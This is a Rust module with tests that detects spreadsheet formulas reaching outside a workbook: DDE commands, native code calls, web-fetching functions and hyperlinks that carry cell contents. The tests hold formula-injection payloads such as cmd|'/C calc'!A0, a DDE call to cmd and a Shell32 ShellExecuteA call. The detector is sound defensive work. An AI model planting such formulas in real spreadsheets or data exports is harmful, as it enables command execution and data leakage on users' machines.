//! What a formula of a cell reaches outside its workbook. Texts in quotes do not count, nor do names of sheets.

/// What was found in one formula.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(crate) struct Found {
    /// Dynamic data exchange: a program is named and asked.
    pub(crate) is_command: bool,
    /// Code of the machine is called.
    pub(crate) is_native: bool,
    /// An address is asked.
    pub(crate) is_web: bool,
    /// A link is made.
    pub(crate) link: Link,
}

/// What a formula that makes a link puts into its address.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(crate) enum Link {
    /// There is none, or one inside the document.
    #[default]
    None,
    /// A text.
    Fixed,
    /// Other cells: what they hold leaves with the click.
    Computed,
}

/// Functions that ask an address.
const WEB: [&str; 10] = [
    "WEBSERVICE",
    "IMPORTXML",
    "IMPORTDATA",
    "IMPORTHTML",
    "IMPORTFEED",
    "IMPORTRANGE",
    "IMAGE",
    "SQL.REQUEST",
    "STOCKHISTORY",
    "RTD",
];
/// Functions that call code; outside macro sheets no program runs them.
const NATIVE: [&str; 4] = ["CALL", "REGISTER", "REGISTER.ID", "EXEC"];
/// What stands before the names of functions that came later.
const PREFIXES: [&str; 5] = ["_XLFN.", "_XLWS.", "_XLUDF.", "COM.MICROSOFT.", "COM.SUN.STAR.SHEET.ADDIN."];
/// No function has a longer name.
const LONGEST_NAME: usize = 64;

/// Looks at one formula, with or without the sign before it. One pass.
pub(crate) fn judge(formula: &[u8]) -> Found {
    let mut found = Found::default();
    let mut name_from = 0_usize;
    let mut at = 0_usize;
    while let Some(byte) = formula.get(at) {
        let next = at.saturating_add(1);
        match byte {
            b'"' | b'\'' => {
                at = closing(formula, next, *byte);
                name_from = at;
                continue;
            }
            b'(' => {
                let name = formula.get(name_from..at).unwrap_or_default();
                if !name.is_empty() && name.len() <= LONGEST_NAME {
                    call(name, formula.get(next..).unwrap_or_default(), &mut found);
                }
                name_from = next;
            }
            // `program|topic!item`; a name stands before it and something quoted or named behind.
            b'|' => {
                let is_named = name_from < at || formula.get(at.saturating_sub(1)) == Some(&b'\'');
                let behind = formula.get(next..).unwrap_or_default();
                let is_topic = behind.first().is_some_and(|byte| *byte == b'\'' || byte.is_ascii_alphanumeric());
                found.is_command |= is_named && is_topic && is_item_ahead(behind);
                name_from = next;
            }
            byte if byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_') => {}
            _ => name_from = next,
        }
        at = next;
    }
    found
}

/// Whether it does more than compute and link to the web.
pub(crate) fn reaches_out(formula: &[u8]) -> bool {
    let found = judge(formula);
    let is_link_plain = match found.link {
        Link::None => true,
        Link::Fixed => links(formula).all(super::link::is_plain),
        Link::Computed => false,
    };
    found.is_command || found.is_native || found.is_web || !is_link_plain
}

/// The fixed addresses that a formula makes links of.
fn links(formula: &[u8]) -> impl Iterator<Item = &[u8]> {
    const CALL: &[u8] = b"HYPERLINK(";
    let mut rest = formula;
    std::iter::from_fn(move || {
        loop {
            let at = rest.windows(CALL.len()).position(|window| window.eq_ignore_ascii_case(CALL))?;
            rest = rest.get(at.saturating_add(CALL.len())..)?.trim_ascii_start();
            if let Some(text) = rest.strip_prefix(b"\"").filter(|text| !text.starts_with(b"#")) {
                return Some(text.get(..closing(text, 0, b'"').saturating_sub(1)).unwrap_or_default());
            }
        }
    })
}

/// Whether it takes cells from another workbook: `[1]Sheet!A1`.
pub(crate) fn is_of_other_file(formula: &[u8]) -> bool {
    let mut behind = formula.split(|byte| *byte == b'[').skip(1);
    behind.any(|rest| {
        let digits = rest.iter().take_while(|byte| byte.is_ascii_digit()).count();
        digits > 0 && rest.get(digits) == Some(&b']')
    })
}

/// The offset behind the quote that ends a text; doubled quotes are letters.
fn closing(formula: &[u8], from: usize, quote: u8) -> usize {
    let mut at = from;
    loop {
        let Some(length) = formula.get(at..).and_then(|rest| memchr::memchr(quote, rest)) else { return formula.len() };
        at = at.saturating_add(length).saturating_add(1);
        if formula.get(at) != Some(&quote) {
            return at;
        }
        at = at.saturating_add(1);
    }
}

/// Whether the topic ends and an item follows, as in `'/C calc'!A0`.
fn is_item_ahead(behind: &[u8]) -> bool {
    let end = match behind.first() {
        Some(b'\'') => closing(behind, 1, b'\''),
        _ => behind.iter().take(512).position(|byte| !is_of_topic(*byte)).unwrap_or(behind.len()),
    };
    behind.get(end) == Some(&b'!')
}

const fn is_of_topic(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'.' | b'\\' | b'/' | b':' | b'-' | b'[' | b']')
}

fn call(name: &[u8], given: &[u8], found: &mut Found) {
    let name = String::from_utf8_lossy(name).to_ascii_uppercase();
    let mut name = name.as_str();
    while let Some(short) = PREFIXES.iter().find_map(|prefix| name.strip_prefix(prefix)) {
        name = short;
    }
    match name {
        "DDE" | "DDEAUTO" => found.is_command = true,
        "HYPERLINK" => found.link = found.link.or(link(given)),
        _ if WEB.contains(&name) => found.is_web = true,
        _ if NATIVE.contains(&name) => found.is_native = true,
        _ => {}
    }
}

/// What is the first thing that HYPERLINK is given.
fn link(given: &[u8]) -> Link {
    let given = given.trim_ascii_start();
    if !given.starts_with(b"\"") {
        // A cell, or what is computed from cells.
        return Link::Computed;
    }
    let end = closing(given, 1, b'"');
    let text = given.get(1..end.saturating_sub(1)).unwrap_or_default();
    let behind = given.get(end..).unwrap_or_default().trim_ascii_start();
    if text.starts_with(b"#") {
        return Link::None;
    }
    if behind.starts_with(b"&") { Link::Computed } else { Link::Fixed }
}

impl Link {
    fn or(self, other: Self) -> Self {
        match (self, other) {
            (Self::Computed, _) | (_, Self::Computed) => Self::Computed,
            (Self::Fixed, _) | (_, Self::Fixed) => Self::Fixed,
            _ => Self::None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_reaches_outside() {
        let found = |formula: &str| judge(formula.as_bytes());
        for formula in [
            "cmd|'/C calc'!A0",
            "1+cmd|'/C calc'!A0",
            "MSEXCEL|'\\..\\cmd.exe /c x'!''",
            "'cmd'|'/c x'!a",
            "of:=DDE(\"cmd\";\"/c\";\"a\")",
            "cmd|x!A0",
        ] {
            assert!(found(formula).is_command, "{formula}");
        }
        for formula in
            ["WEBSERVICE(A1)", "_xlfn.WEBSERVICE(\"http://a\")", "of:=COM.MICROSOFT.WEBSERVICE([.A1])", "image(A1)"]
        {
            assert!(found(formula).is_web, "{formula}");
        }
        assert!(found("CALL(\"Shell32\",\"ShellExecuteA\")").is_native);
        assert_eq!(found("HYPERLINK(\"http://a/\",\"x\")").link, Link::Fixed);
        assert_eq!(found("HYPERLINK(\"http://a/?\"&B1,\"x\")").link, Link::Computed);
        assert_eq!(found("IF(1,HYPERLINK( A1 ))").link, Link::Computed);
    }

    #[test]
    fn links_and_other_workbooks() {
        let all = |formula: &'static str| links(formula.as_bytes()).collect::<Vec<_>>();
        assert_eq!(all("IF(A1,HyperLink( \"http://a\",1),HYPERLINK(\"x:y\"))"), [&b"http://a"[..], b"x:y"]);
        assert!(all("HYPERLINK(\"#A1\")+HYPERLINK(A1)+SUM(A1)").is_empty());
        assert!(is_of_other_file(b"[1]Sheet1!A1") && is_of_other_file(b"SUM('[12]a b'!A1)"));
        assert!(
            !is_of_other_file(b"Table1[1a]") && !is_of_other_file(b"Table1[[#All],[x]]") && !is_of_other_file(b"[]")
        );
    }

    #[test]
    fn ordinary_formulas() {
        for formula in [
            "SUM(A1:A9)",
            "IF(A1=\"a|'b'!c\",1,2)",
            "'my|sheet'!A1",
            "VLOOKUP(A1,Sheet2!$A$1:$B$9,2,FALSE)",
            "INDIRECT(\"A\"&ROW())",
            "HYPERLINK(\"#Sheet2!A1\",\"go\")",
            "\"WEBSERVICE(\"&A1",
            "MYCALL(1)",
            "FILTERXML(A1,\"//x\")",
            "\"it's\"&'a''b'!A1",
            "((((",
            "\"open",
        ] {
            assert_eq!(judge(formula.as_bytes()), Found::default(), "{formula}");
        }
    }
}
